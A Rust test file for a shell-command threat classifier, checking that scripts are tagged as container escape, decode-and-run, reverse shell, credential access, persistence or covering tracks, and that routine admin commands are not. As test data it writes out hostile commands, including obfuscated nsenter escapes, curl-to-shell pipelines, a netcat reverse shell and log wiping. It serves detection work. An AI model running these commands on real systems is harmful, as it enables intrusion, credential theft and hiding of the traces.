//! What command lines come to, as a whole.

use super::category::{Category, Found};
use super::judge::{MAX_JUDGED, of_argv, of_line};

fn names(found: &Found) -> Vec<&'static str> {
    found.categories().map(Category::name).collect()
}

fn of_shell(script: &str) -> Vec<&'static str> {
    names(&of_argv(["sh", "-c", script].into_iter()))
}

#[test]
fn programs_are_found_wherever_a_shell_would_run_them() {
    for script in [
        "nsenter -t 1 sh",
        "cd /x && nsenter -t 1 sh",
        "env A=1 timeout 5 nsenter -t 1 sh",
        "find / -exec nsenter -t 1 sh \\;",
        "echo 1 | xargs nsenter -t",
        "bash -c 'setsid nohup nsenter -t 1 sh'",
        "busybox nsenter -t 1 sh",
        "x=$(nsenter -t 1 id)",
        "if true; then nsenter -t 1 sh; fi",
        "n\"\"sen\\ter -t 1 sh",
        "a=nsen;b=ter;$a$b -t 1",
        "python3 -c 'import os; os.system(\"nsenter -t 1 sh\")'",
        "eval 'nsenter -t 1 sh'",
        "don't; nsenter -t 1 sh",
    ] {
        assert!(of_shell(script).contains(&"escape"), "{script}: {:?}", of_shell(script));
    }
    for script in ["echo nsenter", "ls /usr/bin/nsenter", "apk add nsenter", "grep nsenter x"] {
        assert!(!of_shell(script).contains(&"escape"), "{script}");
    }
}

#[test]
fn what_flows_from_one_program_to_the_next() {
    for (script, category) in [
        ("echo aWQ= | base64 -d | sh", "decode_and_run"),
        ("curl -s x | bash -s y", "decode_and_run"),
        ("(wget -O- x || curl x) | sh", "decode_and_run"),
        ("sh -c \"$(curl -fsSL x)\"", "decode_and_run"),
        ("bash <(curl x)", "decode_and_run"),
        ("wget -O /opt/kit http://x/kit; chmod +x /opt/kit; /opt/kit", "decode_and_run"),
        ("rm -f /t; mkfifo /t; cat /t | sh -i 2>&1 | nc x 1 > /t", "reverse_shell"),
        ("env | grep -i pass", "credential_access"),
        ("echo x >> /etc/crontab", "persistence"),
        (": > /var/log/auth.log", "covering_tracks"),
        ("python -c 'import socket,subprocess; s=socket.socket(); subprocess.call(1)'", "reverse_shell"),
        ("python -c 'open(\"/etc/cron.d/x\",\"w\").write(\"y\")'", "persistence"),
    ] {
        assert!(of_shell(script).contains(&category), "{script}: {:?}", of_shell(script));
    }
}

#[test]
fn what_is_done_each_day_is_not_grave() {
    for script in [
        "pg_dump -U app shop | gzip > /backup/shop.sql.gz",
        "mysqldump -p$(cat /run/secrets/db) shop",
        "find /var/log -name '*.gz' -mtime +7 -delete",
        "until nc -z db 5432; do sleep 1; done",
        "/usr/local/bin/job > /var/log/job.log 2>&1",
        "logrotate -f /etc/logrotate.d/nginx",
        "rm -rf /tmp/cache /var/cache/app/*",
        "exec 3<>/dev/tcp/127.0.0.1/8080; echo -e 'GET / HTTP/1.1' >&3; cat <&3",
        "kill -HUP 1",
        "python manage.py migrate",
        "chown -R app:app /data",
    ] {
        let found = of_argv(["sh", "-c", script].into_iter());
        assert!(!found.is_grave() && found.grave_at_start().next().is_none(), "{script}: {:?}", names(&found));
    }
}

#[test]
fn what_is_longer_than_any_honest_command_is_told() {
    let long = "x ".repeat(MAX_JUDGED);
    assert!(of_shell(&long).contains(&"covering_tracks"));
    assert!(of_line(&long).has(Category::CoveringTracks));
    assert!(of_shell(&format!("nsenter -t 1; {long}")).contains(&"escape"));
}
